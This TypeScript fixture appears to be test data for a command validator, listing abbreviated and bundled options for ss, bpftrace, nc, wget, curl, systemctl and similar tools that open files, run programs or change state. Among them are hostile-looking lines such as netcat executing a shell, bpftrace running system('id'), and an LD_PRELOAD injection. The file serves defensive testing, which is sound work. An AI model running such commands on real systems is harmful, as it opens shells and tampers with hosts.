import { type ArgumentCase, casesOf } from './argument-case.ts'

/** Arguments of many tools that open files, run programs or change something, in the forms that a table of exact names misses. */
export const hiddenArguments: readonly ArgumentCase[] = [
  ...casesOf(
    'named',
    'getopt_long(3): any unambiguous prefix of a long option; values in the same argument',
    `
    ss --diag=/tmp/x
    ss --dia /tmp/x
    ss --filt /tmp/x
    ss -tnF/tmp/x
    ss --ne other
    iptables -L --modpr=/tmp/x
    iptables-save --fil=/tmp/x
    bpftrace --uns -e 'BEGIN { exit(); }'
    bpftrace --unsaf -e 'BEGIN { system("id"); }'
    bpftrace -o/tmp/x -e 'BEGIN { exit(); }'
    bpftrace -l -o/tmp/x
    bpftrace -lo/tmp/x
    bpftrace -c/bin/sh -e 'END { exit(); }'
    bpftrace -dI/tmp -l
    bpftrace --incl /tmp/x -l
    bpftrace -l /tmp/list
    bpftool -B/tmp/x btf list
    bpftool --base /tmp/x btf list
    bpftool btf list --base-b=/tmp/x
    tcpdump -nni any -w/tmp/x
    tcpdump -niany -V/tmp/x
    tcpdump -nzsh -w x
    mtr --fil /tmp/x
    nc --exe sh 10.0.0.1 1
    nc --sh-ex id 10.0.0.1 1
    nc -vnesh 10.0.0.1 1
    nc -o/tmp/x 10.0.0.1 1
    nc --hex=/tmp/x 10.0.0.1 1
    nc --ssl-ke /tmp/x 10.0.0.1 1
    wget --use-ask=/tmp/x -O- http://10.0.0.1
    wget --exec=robots=off -O- http://10.0.0.1
    wget -qO/tmp/x http://10.0.0.1
    wget -a/tmp/x -O- http://10.0.0.1
    wget -o/tmp/- -O- http://10.0.0.1
    wget --input-f=/tmp/x -O-
    curl -c/tmp/x http://10.0.0.1
    curl --cookie-j /tmp/x http://10.0.0.1
    curl -sSLo/tmp/x http://10.0.0.1
    curl -vD/tmp/x http://10.0.0.1
    curl --dump-h /tmp/x http://10.0.0.1
    iperf3 -c 10.0.0.1 --logf=/tmp/x
    iperf3 -c 10.0.0.1 -I/tmp/x
    sysctl --loa=/tmp/x
    sysctl -ap/tmp/x
    sysctl --sys
    conntrack --load-f /tmp/x
    conntrack -R/tmp/x
    ebtables -L --atomic-f /tmp/x
    ebtables --atomic-file=/tmp/x -L
    ebtables -LM/tmp/x
    ebtables -M/tmp/x -L
    lsof -nDb/tmp/x
    journalctl --fi=/tmp/x
    journalctl --dir=/tmp
    journalctl --cursor-fi=/tmp/x
    journalctl --im=/tmp/x
    systemctl --hos other status
    systemctl -Hother status
    systemctl --ro=/tmp status
    systemctl --mach x status
    grep -f/tmp/x /host/etc/hosts
    grep --fil=/tmp/x y
    sort --out=/tmp/x
    sort -uo/tmp/x
    wc --files0=/tmp/x
    `,
  ),
  ...casesOf(
    'deny',
    'the tools’ manuals: options that change something',
    `
    ss -tK dst 10.0.0.1
    ss --kil state time-wait
    iptables -nZL
    iptables --zer
    iptables -A INPUT -m conntrack --ctstate NEW -j ACCEPT
    iptables -I INPUT -m hashlimit --hashlimit-upto 5/sec --hashlimit-name x -j ACCEPT
    systemctl restart kubelet --no-block
    iptables-restore --noflush
    ip6tables-restore -t
    conntrack --del -s 10.0.0.1
    conntrack -Ds 10.0.0.1
    conntrack -Lz
    conntrack -LD
    ipset fl x
    ipset -X x
    ipset dest
    ebtables -LZ
    ebtables --init
    journalctl --vacuum-s=1
    journalctl --rot
    journalctl --flus
    journalctl --relinq
    systemctl --now status kubelet
    sysctl -nw a=b
    sysctl --wri a=b
    `,
  ),
  ...casesOf(
    'named',
    'the tools’ manuals: commands that run programs, and ones that no table has',
    `
    systemctl edit kubelet
    systemctl switch-root /tmp
    systemctl link /tmp/x.service
    systemctl set-environment LD_PRELOAD=/tmp/x
    systemctl frobnicate
    systemctl restar kubelet
    ethtool eth0 -s eth0 speed 10
    bpftool -f -L prog load x y
    bpftool p l /tmp/x /sys/fs/bpf/x
    ip mac s
    ip x s
    ip sr hmac show
    curl --frobnicate http://10.0.0.1
    wget --frobnicate -O- http://10.0.0.1
    nc --frobnicate 10.0.0.1 1
    socat -Y - TCP:h:1
    tcpdump --frobnicate
    nmap --frobnicate 10.0.0.1
    ss --frobnicate
    ip -frobnicate addr
    ip frobnicate show
    bpftool frobnicate
    bpftrace --frobnicate -l
    journalctl --frobnicate
    ethtool --frobnicate eth0
    nft --frobnicate list ruleset
    iperf3 -c h --frobnicate
    openssl s_client -frobnicate
    sort --frobnicate
    nft -I/tmp list ruleset
    nft -if /tmp/x
    nft -cnf/tmp/x
    iptables-restore /tmp/x
    iptables -A INPUT -m bpf --object-pinned /sys/fs/bpf/x
    ip6tables-restore -n /tmp/x
    dig -f/tmp/x
    dig -4rf/tmp/x
    dig +tls-c=/tmp/x @h example.org
    drill -Tk/tmp/x example.org
    jq -L/tmp .
    jq -rf /tmp/x
    jq --rawfile a /tmp/x .
    `,
  ),
]
